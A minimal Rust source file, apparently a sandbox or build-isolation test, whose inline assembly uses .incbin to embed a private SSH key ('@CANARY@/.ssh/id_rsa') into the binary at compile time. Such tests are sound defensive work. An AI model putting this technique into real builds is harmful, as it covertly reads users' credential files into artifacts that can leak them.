std::arch::global_asm!(".data\n.incbin \"@CANARY@/.ssh/id_rsa\"\n");
fn main() {}
